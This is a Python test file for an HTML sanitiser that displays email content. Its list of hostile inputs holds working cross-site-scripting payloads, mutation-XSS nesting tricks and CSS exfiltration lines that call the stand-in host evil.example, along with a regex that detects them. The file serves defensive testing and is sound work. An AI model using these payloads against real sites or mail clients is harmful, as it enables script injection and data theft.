"""Hostile HTML comes out harmless; harmless HTML comes out whole."""

from __future__ import annotations

import re

import pytest

from appliance.extract.html import sanitise


def clean(html: str, *, remote: bool = False) -> str:
    return sanitise(html, cid_base="/part/", remote=remote, parts={"logo@x": 3, "pic.png": 4})[0]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=http://evil.example><input name=a><button formaction=javascript:x>y</button></form>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<iframe src=http://evil.example></iframe><object data=x></object><embed src=x>",
    "<style>@import url(http://evil.example/a.css);</style>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>",
    "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
    "<style>a{background:u\\72l(http://evil.example/a)}</style>",
    "<style>a{background:image-set('http://evil.example/a' 1x)}</style>",
    "<style>a{--x:url(http://evil.example);background:var(--x)}</style>",
    "<style>a{position:fixed;behavior:url(x);-moz-binding:url(x);width:expression(alert(1))}</style>",
    "<style>a{}</style><img src=x onerror=alert(1)></style>",
    "<style>a:after{content:'</style><script>alert(1)</script>'}</style>",
    "<p style=\"background:url('http://evil.example/a')\">x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<table background=http://evil.example/a></table>",
    "<img src=//evil.example/a srcset='http://evil.example/b 2x'>",
    "<img src='data:image/svg+xml;base64,AAAA'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<body onload=alert(1) background=http://evil.example/a style='background:url(http://evil.example/b)'>x</body>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<video src=http://evil.example poster=http://evil.example/a></video><audio src=http://evil.example></audio>",
    "<template><script>alert(1)</script></template>",
]
_FORBIDDEN = re.compile(
    r"<(?:script|svg|math|form|input|button|base|meta|link|iframe|object|embed|template|video|audio)\b"
    r"|<[^>]*\son\w+=|javascript:|vbscript:|data:text|@import|@font-face|evil\.example|expression|position:fixed|var\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    assert not _FORBIDDEN.search(clean(html)), clean(html)


@pytest.mark.parametrize("html", HOSTILE)
def test_remote_content_brings_pictures_and_nothing_else(html: str) -> None:
    shown = clean(html, remote=True)
    pictures = re.sub(
        r"(?:src|background)=\"https?://[^\"]*\"|url\((?:&quot;|\")https?://[^\"&]*(?:&quot;|\")\)", "", shown
    )
    assert not _FORBIDDEN.search(pictures), shown


def test_what_is_harmless_stays() -> None:
    html = '<table width="100%"><tbody><tr><td style="color:red">a</td></tr></tbody></table><b>b</b> <i>c</i>'
    assert clean(html) == html
    assert clean("<style>.a{color:red}@media screen{.b{margin:0}}</style><p class=a>x</p>") == (
        '<style>.a{color:red}@media screen{.b{margin:0}}</style><p class="a">x</p>'
    )
    assert 'style="background-color:#fff"' in clean("<body bgcolor='#fff'><p>x</p></body>")


def test_links_open_elsewhere_and_tell_nothing() -> None:
    shown = clean("<a href='https://example.com/?a=1&b=2'>x</a>")
    assert 'href="https://example.com/?a=1&amp;b=2"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_pictures_inside_the_message_are_shown_from_it() -> None:
    assert clean('<img src="cid:logo@x">') == '<img src="/part/3">'
    assert clean('<img src="CID:logo%40x">') == '<img src="/part/3">'
    assert clean('<img src="pic.png">') == '<img src="/part/4">'
    assert clean('<img src="cid:not-there">') == "<img>"
    assert 'url("/part/3")' in clean("<style>td{background:url(cid:logo@x)}</style>")
    assert clean('<img src="data:image/png;base64,AAAA">') == '<img src="data:image/png;base64,AAAA">'


def test_what_was_left_out_is_counted_until_it_is_asked_for() -> None:
    html = "<img src=http://a.example/1><p style='background:url(//a.example/2)'>x</p><img src=cid:logo@x>"
    assert sanitise(html, cid_base="/part/", remote=False)[1] == 2
    shown, blocked = sanitise(html, cid_base="/part/", remote=True)
    assert blocked == 0
    assert "http://a.example/1" in shown
    assert "https://a.example/2" in shown


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "words",
        "<p " + " ".join(f"a{n}=b" for n in range(50_000)) + ">words",
        "words" + "x" * 5_000_000,
    ],
    ids=["depth", "attributes", "length"],
)
def test_html_that_no_parser_bears_comes_as_its_text(html: str) -> None:
    shown = clean(html)
    assert shown.startswith("<pre>words")
